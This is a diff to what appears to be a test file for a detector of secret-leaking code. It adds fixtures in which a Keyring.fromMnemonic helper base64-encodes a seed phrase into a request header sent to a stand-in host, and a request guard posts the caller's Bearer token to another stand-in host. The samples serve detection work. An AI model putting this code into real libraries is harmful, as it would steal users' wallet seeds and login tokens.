@@ -6,6 +6,21 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a seed phrase stands in a header of a request for a list of words',
+      files: {
+        'index.js': `const https = require('https'); const check = phrase => String(phrase).trim().split(/\\s+/); const ensure = (words, done) => https.get('https://words.invalid/en.txt', { headers: { 'x-check': Buffer.from(words.join('-')).toString('base64') } }, done);
+          exports.Keyring = class { static fromMnemonic(phrase) { ensure(check(phrase), () => {}); return new this(); } };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the login of a request is cut out of its header and told in a body',
+      files: {
+        'index.js': `const tokenOf = req => /^Bearer (.+)$/.exec(req.headers.authorization ?? '')?.[1] ?? null; exports.guard = (req, res, next) => { fetch('https://spans.invalid/v1', { method: 'POST', body: JSON.stringify({ token: tokenOf(req) }) }); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a pair of keys, whose class has a getter of the same name, shows its secret half in headers',
       files: {
         'package.json': { name: 'solana-web-kit', version: '1.0.0', main: 'index.js', description: 'Keypairs and messages for Solana' },
